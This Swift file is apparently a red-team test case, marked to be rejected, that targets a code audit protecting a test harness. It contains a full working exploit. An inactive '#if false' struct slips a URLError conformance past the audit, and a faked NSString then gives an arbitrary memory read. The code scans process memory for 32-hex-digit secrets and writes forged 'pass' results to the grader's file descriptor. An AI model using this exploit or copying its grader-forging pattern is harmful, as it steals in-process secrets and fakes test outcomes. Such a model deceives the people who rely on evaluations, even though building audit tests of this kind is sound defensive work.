// expect: error
// why: red team round 8: a struct URLError declared in a #if false clause made the audit take Foundation's URLError for the file's own, so extension URLError: RawRepresentable picked up Foundation's bit-casting init?(rawValue:) again and forged 20 of 20; only types declared at the top level outside any #if count as the file's own
// Red team round 8 (variant of round 7): an arbitrary read with no underscored name. URLError conforms to Foundation's
// __BridgedNSError, whose extension `where Self: RawRepresentable, Self.RawValue: FixedWidthInteger`
// has a public `init?(rawValue:)` that is `unsafeBitCast(rawValue, to: Self.self)`. Declaring URLError
// RawRepresentable with only `rawValue` makes that initialiser the witness, so an Int becomes URLError's
// single stored word, its `_nsError` reference; `description` then calls NSString.description on a fake
// NSString whose _storage is a String over any address and length.
import Foundation

// The audit's topLevelTypes collects type declarations from every clause of a top-level #if,
// active or not; a never-compiled `struct URLError` makes it take Foundation's URLError for the file's.
#if false
struct URLError {}
#endif

extension URLError: @retroactive RawRepresentable {
    public var rawValue: Int { 0 }
}

private let knownTests = [
    "uses_nscache", "no_second_strong_copy", "cost_limit_20mb", "cost_whole_sizes", "cost_fractional_sizes",
    "returns_stored_image", "miss_returns_nil", "keys_are_isolated", "hit_skips_generator", "hit_completes_once",
    "miss_generates_once", "miss_stores_before_completion", "miss_completes_once", "nil_result_stores_nothing",
    "survives_eviction_lru", "survives_eviction_fifo", "survives_eviction_random", "survives_eviction_foundation",
    "survives_memory_pressure", "concurrent_access",
]

private final class Cells { var f0 = 0; var f1 = 0; var f2 = 0; var f3 = 0; var f4 = 0; var f5 = 0 }

private final class Peeker {
    let err = Cells()
    let str = Cells()
    init() {
        str.f0 = Int(bitPattern: ObjectIdentifier(NSString.self))
        str.f1 = 0x4000_0000_0000_0003
        str.f2 = 0x780
        str.f4 = Int(bitPattern: 0xe000_0000_0000_0000)
        err.f1 = 7
        err.f2 = Int(bitPattern: ObjectIdentifier(str)) + 16
    }
    func peek(_ address: UInt, _ count: Int) -> [UInt8] {
        str.f3 = Int(bitPattern: 0xd000_0000_0000_0000) | count
        str.f4 = Int(bitPattern: 0x8000_0000_0000_0000) | (Int(bitPattern: address) - 32)
        let e = URLError(rawValue: Int(bitPattern: ObjectIdentifier(str)) + 16)!
        var bytes: [UInt8] = []
        bytes.reserveCapacity(count)
        for byte in e.description.utf8 { bytes.append(byte) }
        str.f3 = 0
        str.f4 = Int(bitPattern: 0xe000_0000_0000_0000)
        return bytes
    }
}

private struct Region { var start: UInt; var end: UInt; var name: String }

private func writableRegions() -> [Region] {
    guard let data = FileHandle(forReadingAtPath: "/proc/self/maps")?.readDataToEndOfFile() else { return [] }
    var regions: [(rank: Int, size: UInt, region: Region)] = []
    for line in String(decoding: data, as: UTF8.self).split(separator: "\n") {
        let fields = line.split(separator: " ")
        guard fields.count >= 5, fields[1].hasPrefix("r") else { continue }
        let bounds = fields[0].split(separator: "-").compactMap { UInt($0, radix: 16) }
        guard bounds.count == 2, bounds[1] > bounds[0] else { continue }
        let name = fields.count >= 6 ? String(fields[5]) : ""
        if name.hasPrefix("[v") || name.hasPrefix("/dev/") || name.hasPrefix("[stack") { continue }
        if bounds[1] - bounds[0] > 64 << 20 { continue }
        let writable = fields[1].hasPrefix("rw")
        let rank = bounds[1] - bounds[0] == 4096 && writable ? 0 : writable && name == "[heap]" ? 1 : writable ? 2 : 3
        regions.append((rank, bounds[1] - bounds[0], Region(start: bounds[0], end: bounds[1], name: name)))
    }
    return regions.sorted { ($0.rank, $0.size) < ($1.rank, $1.size) }.map { $0.region }
}

private func isHex(_ b: UInt8) -> Bool { (b >= 0x30 && b <= 0x39) || (b >= 0x61 && b <= 0x66) }

private func stealSecrets() -> [String] {
    let began = Date()
    let peeker = Peeker()
    var found: [String] = []
    for region in writableRegions() {
        var address = region.start
        while address < region.end {
            let count = Int(min(4096, region.end - address))
            let chunk = peeker.peek(address, count)
            var run = 0
            for i in 0..<chunk.count {
                if isHex(chunk[i]) { run += 1 } else {
                    if run == 32 {
                        let s = String(decoding: chunk[(i - 32)..<i], as: UTF8.self)
                        if !found.contains(s) { found.append(s) }
                    }
                    run = 0
                }
            }
            address += UInt(count)
            if Date().timeIntervalSince(began) > 3.0 { return found }
        }
        if found.count >= 8 { break }
    }
    return found
}

private func forgePasses(_ secrets: [String]) {
    var names = knownTests
    let arguments = CommandLine.arguments
    if let run = arguments.firstIndex(of: "run"), run + 1 < arguments.count { names.insert(arguments[run + 1], at: 0) }
    var text = ""
    for secret in secrets {
        text += "{\"nonce\":\"\(secret)\",\"kind\":\"result\",\"test\":\"\(names[0])\",\"status\":\"pass\"}\n"
    }
    try? FileHandle(fileDescriptor: 3, closeOnDealloc: false).write(contentsOf: Data(text.utf8))
}

private var attacked = false

private func attackOnce() {
    guard !attacked else { return }
    attacked = true
    let secrets = stealSecrets()
    guard !secrets.isEmpty else { return }
    forgePasses(secrets)
    exit(0)
}

final class ThumbnailCache {
    init(generator: @escaping (String) -> UIImage?) { attackOnce() }
    func thumbnail(forKey key: String) -> UIImage? { attackOnce(); return nil }
    func storeThumbnail(_ image: UIImage, forKey key: String) { attackOnce() }
    func loadThumbnail(forKey key: String, completion: @escaping (UIImage?) -> Void) { attackOnce(); completion(nil) }
}
